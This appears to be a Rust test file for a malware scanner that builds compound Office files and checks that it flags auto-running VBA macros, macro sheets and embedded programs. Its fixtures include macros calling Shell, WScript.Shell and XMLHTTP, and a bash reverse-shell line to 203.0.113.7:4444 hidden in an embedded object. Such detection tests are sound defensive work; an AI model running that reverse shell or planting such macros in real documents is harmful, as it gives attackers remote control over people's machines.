//! Programs in compound files.

use std::io::{Cursor, Write as _};

use agentdrop_shield::ThreatLevel::{High, Low, Medium};

use crate::looked::{assert_at_most, assert_finds, look};

/// A compound file with these streams.
fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, bytes) in streams {
        if let Some((folder, _)) = path[1..].rsplit_once('/') {
            file.create_storage_all(format!("/{folder}")).unwrap();
        }
        file.create_stream(path).unwrap().write_all(bytes).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// The source of a module as it is stored, in chunks of letters that are not repeated.
fn packed(source: &str) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in source.as_bytes().chunks(3000) {
        let groups = chunk.chunks(8).flat_map(|it| [&[0], it].concat());
        let body: Vec<u8> = groups.collect();
        out.extend((0xB000 | (body.len() as u16 - 1)).to_le_bytes());
        out.extend(body);
    }
    out
}

fn document(source: &str) -> Vec<u8> {
    let module = [b"p-code comes first".to_vec(), packed(source)].concat();
    compound(&[
        ("/VBA/_VBA_PROJECT", b"\xCC\x61"),
        ("/VBA/ThisDocument", &module),
    ])
}

const HEAD: &str = "Attribute VB_Name = \"ThisDocument\"\r\n";

#[test]
fn a_macro_that_starts_by_itself_and_runs_something_is_found() {
    let sources = [
        "Sub AutoOpen()\r\n  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
        "Private Sub Workbook_Open()\r\n  CreateObject(\"WScript.Shell\").Run \"x\"\r\nEnd Sub\r\n",
        "Sub Document_Open()\r\n  Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub\r\n",
        "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" ()\r\nSub Go()\r\nEnd Sub\r\n",
    ];
    for source in sources {
        let bytes = document(&format!("{HEAD}{source}"));
        for name in ["a.doc", "vbaProject.bin"] {
            assert_finds(name, &bytes, "macro/runs", High);
        }
    }
}

#[test]
fn a_macro_that_only_counts_is_told_and_an_empty_one_is_not() {
    let plain = document(&format!(
        "{HEAD}Sub Total()\r\n  Range(\"A1\").Value = 3\r\nEnd Sub\r\n"
    ));
    assert_finds("a.xls", &plain, "macro/plain", Medium);
    let runs_when_asked = document(&format!(
        "{HEAD}Sub Export()\r\n  Shell \"x\", vbHide\r\nEnd Sub\r\n"
    ));
    assert_finds("a.xls", &runs_when_asked, "macro/plain", Medium);
    let stripped = compound(&[("/VBA/_VBA_PROJECT", b"\xCC\x61")]);
    assert_finds("a.xls", &stripped, "macro/without-source", Medium);
    assert_at_most(
        "a.doc",
        &compound(&[("/WordDocument", b"\xEC\xA5 text")]),
        Low,
    );
}

#[test]
fn a_sheet_of_commands_is_found() {
    let sheet = |state: u8| {
        let mut book = b"\x09\x08\x04\0\0\x06\x05\0".to_vec();
        book.extend(b"\x85\0\x09\0\0\0\0\0");
        book.extend([state, 1, 1, 0, b'm']);
        book.extend(b"\x0A\0\0\0");
        compound(&[("/Workbook", &book)])
    };
    assert_finds("a.xls", &sheet(0), "macro/sheet", Medium);
    assert_finds("a.xls", &sheet(2), "macro/sheet-runs", High);
}

#[test]
fn a_file_in_a_document_is_found_and_looked_into() {
    let object = |name: &str, content: &[u8]| {
        let mut stream = vec![0; 4];
        stream.extend(b"\x02\0");
        stream.extend(name.as_bytes());
        stream.extend(b"\0C:\\x\\");
        stream.extend(name.as_bytes());
        stream.extend(b"\0\0\0\x03\0");
        stream.extend(2_u32.to_le_bytes());
        stream.extend(b"x\0");
        stream.extend((content.len() as u32).to_le_bytes());
        stream.extend(content);
        compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &stream)])
    };
    assert_finds("a.doc", &object("invoice.js", b"x"), "object/program", High);
    assert_finds("a.doc", &object("notes.txt", b"x"), "object/file", Low);
    let shell = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
    assert_finds(
        "a.doc",
        &object("notes.txt", shell),
        "code/reverse-shell",
        High,
    );
}

#[test]
fn a_compound_file_that_breaks_off_anywhere_ends_the_look() {
    let whole = document(&format!(
        "{HEAD}Sub AutoOpen()\r\n  Shell \"x\"\r\nEnd Sub\r\n"
    ));
    for end in (0..whole.len()).step_by(37) {
        look("a.doc", &whole[..end]);
    }
    // Every number of the tables in turn is turned around.
    for at in (0..whole.len().min(2048)).step_by(4) {
        let mut bytes = whole.clone();
        bytes[at] ^= 0xFF;
        look("a.doc", &bytes);
    }
}
